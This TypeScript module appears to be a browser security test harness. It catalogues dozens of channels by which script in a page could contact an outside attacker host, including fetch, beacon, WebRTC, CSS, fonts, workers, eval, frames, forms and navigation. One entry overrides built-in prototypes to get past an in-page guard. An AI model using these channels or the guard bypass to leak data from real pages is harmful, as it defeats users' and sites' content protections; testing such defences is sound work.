import type { Target } from './attacker';

/**
 * Ways in which a script that should not exist could send something out. Each runs by itself inside the page, so it may use
 * nothing from outside its own braces. What a browser does not have throws; whatever is thrown counts as nothing sent.
 */
export type Vector = (to: Target) => unknown;

/** Those that leave the page as it is and can be tried side by side. */
export const staying: Readonly<Record<string, Vector>> = {
  'nothing at all': () => undefined,
  fetch: ({ url }) => fetch(`${url}/a`),
  'fetch, form sent': ({ url }) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'a=b' }),
  'fetch, kept alive': ({ url }) => fetch(url, { mode: 'no-cors', keepalive: true }),
  'fetch over a redirect of the own site': ({ redirect }) => fetch(redirect, { mode: 'no-cors' }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  'XMLHttpRequest, waiting': ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
  },
  beacon: ({ url }) => navigator.sendBeacon(url, 'a'),
  WebSocket: ({ host, port }) => new WebSocket(`ws://${host}:${port}/a`),
  EventSource: ({ url }) => new EventSource(`${url}/events`),
  WebTransport: ({ host, port }) => {
    const { WebTransport: Transport } = globalThis as unknown as {
      WebTransport: new (url: string) => { ready: Promise<void> };
    };
    return new Transport(`https://${host}:${port}/a`).ready;
  },
  'Cache.add': async ({ url }) => (await caches.open('a')).add(`${url}/a`),
  'WebRTC, STUN': ({ host, port }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${port}` }] });
    connection.createDataChannel('a');
    return connection.setLocalDescription();
  },
  'WebRTC, TURN': ({ host, port }) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${host}:${port}?transport=udp`, username: 'a', credential: 'b' }],
    });
    connection.createDataChannel('a');
    return connection.setLocalDescription();
  },
  'WebRTC, TURN over TCP': ({ host, port }) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${host}:${port}?transport=tcp`, username: 'a', credential: 'b' }],
    });
    connection.createDataChannel('a');
    return connection.setLocalDescription();
  },
  'WebRTC by a candidate of the other side': async ({ host, port }) => {
    const [mine, theirs] = [new RTCPeerConnection(), new RTCPeerConnection()];
    mine.createDataChannel('a');
    await mine.setLocalDescription();
    if (mine.localDescription !== null) await theirs.setRemoteDescription(mine.localDescription);
    await theirs.setLocalDescription();
    if (theirs.localDescription !== null) await mine.setRemoteDescription(theirs.localDescription);
    await mine.addIceCandidate({
      candidate: `candidate:1 1 udp 2122260223 ${host} ${port} typ host`,
      sdpMid: '0',
    });
  },
  'WebRTC of an empty frame': ({ host, port }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Connection } = frame.contentWindow as unknown as typeof globalThis;
    const connection = new Connection({ iceServers: [{ urls: `stun:${host}:${port}` }] });
    connection.createDataChannel('a');
    return connection.setLocalDescription();
  },
  'WebRTC of a frame from another document': ({ host, port }) => {
    const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe', null);
    const frame = document.adoptNode(other.documentElement) as unknown as HTMLIFrameElement;
    document.body.append(frame);
    const { RTCPeerConnection: Connection } = frame.contentWindow as unknown as typeof globalThis;
    const connection = new Connection({ iceServers: [{ urls: `stun:${host}:${port}` }] });
    connection.createDataChannel('a');
    return connection.setLocalDescription();
  },
  image: ({ url }) => {
    new Image().src = url;
  },
  'image, srcset': ({ url }) => {
    const image = new Image();
    image.srcset = `${url}/a.svg 1x`;
    document.body.append(image);
  },
  'image over a redirect of the own site': ({ redirect }) => {
    new Image().src = redirect;
  },
  'image in a drawing': ({ url }) => {
    const svg = 'http://www.w3.org/2000/svg';
    const [drawing, image] = [document.createElementNS(svg, 'svg'), document.createElementNS(svg, 'image')];
    image.setAttribute('href', `${url}/a.svg`);
    drawing.append(image);
    document.body.append(drawing);
  },
  'filter image in a drawing': ({ url }) => {
    const svg = 'http://www.w3.org/2000/svg';
    const drawing = document.createElementNS(svg, 'svg');
    const filter = document.createElementNS(svg, 'filter');
    const image = document.createElementNS(svg, 'feImage');
    image.setAttribute('href', `${url}/a.svg`);
    filter.append(image);
    drawing.append(filter);
    document.body.append(drawing);
  },
  video: ({ url }) => {
    const video = document.createElement('video');
    video.src = url;
    video.load();
  },
  'video poster': ({ url }) => {
    const video = document.createElement('video');
    video.poster = url;
    document.body.append(video);
  },
  audio: ({ url }) => new Audio(url).load(),
  subtitles: ({ url }) => {
    const [video, track] = [document.createElement('video'), document.createElement('track')];
    video.crossOrigin = 'anonymous';
    track.src = url;
    track.default = true;
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  'picture button': ({ url }) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = url;
    document.body.append(input);
  },
  'CSS background': ({ url }) => {
    document.body.style.backgroundImage = `url("${url}/a.svg")`;
  },
  'CSS border image': ({ url }) => {
    document.body.style.border = '1px solid';
    document.body.style.borderImage = `url("${url}/a.svg") 1`;
  },
  'CSS list mark': ({ url }) => {
    const item = document.createElement('li');
    item.style.listStyleImage = `url("${url}/a.svg")`;
    item.textContent = 'a';
    document.body.append(item);
  },
  'CSS mask': ({ url }) => {
    const box = document.createElement('div');
    box.style.maskImage = `url("${url}/a.svg")`;
    box.style.width = box.style.height = '9px';
    document.body.append(box);
  },
  'CSS content': ({ url }) => {
    const box = document.createElement('div');
    box.style.content = `url("${url}/a.svg")`;
    document.body.append(box);
  },
  'CSS constructed sheet': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background-image: url("${url}/a.svg") }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'CSS import': ({ url }) => {
    const style = document.createElement('style');
    style.textContent = `@import url("${url}/a.css");`;
    document.head.append(style);
  },
  'style sheet': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${url}/a.css`;
    document.head.append(link);
  },
  font: ({ url }) => new FontFace('a', `url("${url}/a.woff2")`).load(),
  'font by a sheet': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face { font-family: b; src: url("${url}/b.woff2") } .b { font-family: b }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    const box = document.createElement('p');
    box.className = 'b';
    box.textContent = 'text';
    document.body.append(box);
    return document.fonts.load('12px b');
  },
  'link preload': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = `${url}/a.svg`;
    document.head.append(link);
  },
  'link modulepreload': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = `${url}/a.js`;
    document.head.append(link);
  },
  'link prefetch': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${url}/a`;
    document.head.append(link);
  },
  'link preconnect': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = url;
    document.head.append(link);
  },
  'link icon': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'icon';
    link.href = `${url}/a.svg`;
    document.head.append(link);
  },
  'link manifest': ({ url }) => {
    for (const known of document.querySelectorAll('link[rel=manifest]')) known.remove();
    const link = document.createElement('link');
    link.rel = 'manifest';
    link.href = `${url}/a.webmanifest`;
    document.head.append(link);
  },
  'speculation rules': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${url}/a.html`] }] });
    document.head.append(script);
  },
  script: ({ url }) => {
    const script = document.createElement('script');
    script.src = `${url}/a.js`;
    document.head.append(script);
  },
  'module script': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = `${url}/a.js`;
    document.head.append(script);
  },
  import: ({ url }) => import(/* @vite-ignore */ `${url}/a.js`),
  'script text': ({ url }) => {
    const script = document.createElement('script');
    script.textContent = `fetch("${url}/a")`;
    document.head.append(script);
  },
  eval: ({ url }) => (0, eval)(`fetch("${url}/a")`),
  Function: ({ url }) => new Function(`return fetch("${url}/a")`)(),
  'timer from a text': ({ url }) => setTimeout(`fetch("${url}/a")` as unknown as () => void, 0),
  markup: ({ url }) => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="${url}/a.svg">`;
    document.body.append(box);
  },
  'markup fragment': ({ url }) =>
    document.body.append(document.createRange().createContextualFragment(`<img src="${url}/a.svg">`)),
  'markup beside': ({ url }) => document.body.insertAdjacentHTML('beforeend', `<img src="${url}/a.svg">`),
  'markup parsed elsewhere': ({ url }) => {
    const parsed = new DOMParser().parseFromString(`<img src="${url}/a.svg">`, 'text/html');
    document.body.append(document.adoptNode(parsed.images[0] as Node));
  },
  frame: ({ url }) => {
    const frame = document.createElement('iframe');
    frame.src = `${url}/a.html`;
    document.body.append(frame);
  },
  'frame with markup': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${url}/a.svg">`;
    document.body.append(frame);
  },
  'frame in a sandbox of its own': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.srcdoc = `<script>fetch("${url}/a")</script>`;
    document.body.append(frame);
  },
  'fetch of an empty frame': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return (frame.contentWindow as unknown as typeof globalThis).fetch(`${url}/a`);
  },
  'frame of the own site': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.src = '/nothing-here';
    frame.onload = () => (frame.contentWindow as unknown as typeof globalThis).fetch(`${url}/a`);
    document.body.append(frame);
  },
  'frame of a picture of the own site': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.src = '/icon.svg';
    frame.onload = () => {
      const { contentDocument: inner } = frame;
      const image = inner?.createElementNS('http://www.w3.org/1999/xhtml', 'img') as HTMLImageElement;
      image.src = `${url}/a.svg`;
    };
    document.body.append(frame);
  },
  'frame over a redirect of the own site': ({ redirect }) => {
    const frame = document.createElement('iframe');
    frame.src = redirect;
    document.body.append(frame);
  },
  'frame from the namespace': ({ url }) => {
    const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'a:iframe') as HTMLIFrameElement;
    frame.setAttribute('src', `${url}/a.html`);
    document.body.append(frame);
  },
  'form into a frame': ({ url }) => {
    const [frame, form] = [document.createElement('iframe'), document.createElement('form')];
    frame.name = form.target = 'inner';
    form.action = url;
    document.body.append(frame, form);
    form.submit();
  },
  object: ({ url }) => {
    const object = document.createElement('object');
    object.data = `${url}/a.html`;
    document.body.append(object);
  },
  embed: ({ url }) => {
    const embed = document.createElement('embed');
    embed.src = `${url}/a.html`;
    document.body.append(embed);
  },
  'style sheet of XSLT': ({ url }) => {
    const parse = (text: string) => new DOMParser().parseFromString(text, 'text/xml');
    const processor = new XSLTProcessor();
    processor.importStylesheet(
      parse(
        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img xmlns="http://www.w3.org/1999/xhtml" src="${url}/a.svg"/></xsl:template></xsl:stylesheet>`,
      ),
    );
    document.body.append(processor.transformToFragment(parse('<a/>'), document));
  },
  'worker from text': ({ url }) =>
    new Worker(URL.createObjectURL(new Blob([`fetch("${url}/a", { mode: "no-cors" })`]))),
  'worker from text, waiting': ({ url }) =>
    new Worker(
      URL.createObjectURL(
        new Blob([`const r = new XMLHttpRequest(); r.open("GET", "${url}", false); r.send();`]),
      ),
    ),
  'worker from text, WebSocket': ({ host, port }) =>
    new Worker(URL.createObjectURL(new Blob([`new WebSocket("ws://${host}:${port}/a")`]))),
  'worker from text, importScripts': ({ url }) =>
    new Worker(URL.createObjectURL(new Blob([`importScripts("${url}/a.js")`]))),
  'module worker from text': ({ url }) =>
    new Worker(URL.createObjectURL(new Blob([`import "${url}/a.js"`], { type: 'text/javascript' })), {
      type: 'module',
    }),
  'worker from a data address': ({ url }) =>
    new Worker(`data:text/javascript,fetch("${url}/a", { mode: "no-cors" })`),
  'shared worker from text': ({ url }) =>
    new SharedWorker(URL.createObjectURL(new Blob([`fetch("${url}/a", { mode: "no-cors" })`]))),
  'audio worklet': async ({ url }) => {
    await new AudioContext().audioWorklet.addModule(`${url}/a.js`);
  },
  'paint worklet': ({ url }) =>
    (CSS as unknown as { paintWorklet: { addModule(url: string): Promise<void> } }).paintWorklet.addModule(
      `${url}/a.js`,
    ),
  'ping of a link': ({ url }) => {
    const link = document.createElement('a');
    link.href = '#here';
    link.ping = url;
    document.body.append(link);
    link.click();
  },
  'sign-in by the browser (FedCM)': ({ url }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: `${url}/fedcm.json`, clientId: 'a' }] },
    } as CredentialRequestOptions),
  payment: ({ host, port }) => {
    const { PaymentRequest: Payment } = globalThis as unknown as {
      PaymentRequest: new (methods: object[], details: object) => { canMakePayment(): Promise<boolean> };
    };
    return new Payment([{ supportedMethods: `https://${host}:${port}/a` }], {
      total: { label: 'a', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment();
  },
  window: ({ url }) => window.open(`${url}/a.html`),
  'window without a name': ({ url }) => window.open(`${url}/a.html`, '_blank', 'noopener'),
  'window of the own site': ({ url }) => {
    const opened = window.open('/nothing-here');
    if (opened !== null) opened.onload = () => (opened as unknown as typeof globalThis).fetch(`${url}/a`);
  },
  'window of an empty frame': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.open(`${url}/a.html`);
  },
  'link into a new window': ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/a.html`;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  'link with the control key': ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/a.html`;
    document.body.append(link);
    link.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true, cancelable: true }));
  },
  'form into a new window': ({ url }) => {
    const form = document.createElement('form');
    form.action = url;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  },
  download: ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/a.bin`;
    link.download = 'a.bin';
    document.body.append(link);
    link.click();
  },
};

/** Those that take the page away where nothing stops them: each needs a page of its own. */
export const leaving: Readonly<Record<string, Vector>> = {
  'going there': ({ url }) => location.assign(`${url}/a.html`),
  'replacing the page': ({ url }) => location.replace(`${url}/a.html`),
  'setting the address': ({ url }) => {
    location.href = `${url}/a.html`;
  },
  'going there by the Navigation API': ({ url }) =>
    (globalThis as unknown as { navigation: { navigate(url: string): void } }).navigation.navigate(
      `${url}/a.html`,
    ),
  'refresh in the head': ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${url}/a.html`;
    document.head.append(meta);
  },
  link: ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/a.html`;
    document.body.append(link);
    link.click();
  },
  'link with a new base': ({ url }) => {
    const [base, link] = [document.createElement('base'), document.createElement('a')];
    base.href = url;
    link.setAttribute('href', '/a.html');
    document.head.append(base);
    document.body.append(link);
    link.click();
  },
  form: ({ url }) => {
    const form = document.createElement('form');
    form.action = url;
    document.body.append(form);
    form.submit();
  },
  'form, posted': ({ url }) => {
    const form = document.createElement('form');
    form.action = url;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'form by its button': ({ url }) => {
    const [form, button] = [document.createElement('form'), document.createElement('button')];
    button.setAttribute('formaction', url);
    form.append(button);
    document.body.append(form);
    button.click();
  },
  'going over a redirect of the own site': ({ redirect }) => location.assign(redirect),
  'link over a redirect of the own site': ({ redirect }) => {
    const link = document.createElement('a');
    link.href = redirect;
    document.body.append(link);
    link.click();
  },
  'going there after the wall was painted over': ({ url }) => {
    // Puts its own in place of what a guard in the page would use.
    Event.prototype.preventDefault = () => undefined;
    Reflect.apply = () => undefined;
    Object.defineProperty(URL.prototype, 'origin', { get: () => location.origin });
    Object.assign(Array.prototype, { map: () => [location.origin, 'blob:', '/'] });
    location.assign(`${url}/a.html`);
  },
  'message on leaving': ({ url }) => {
    addEventListener('pagehide', () => navigator.sendBeacon(url, 'a'));
    location.reload();
  },
};
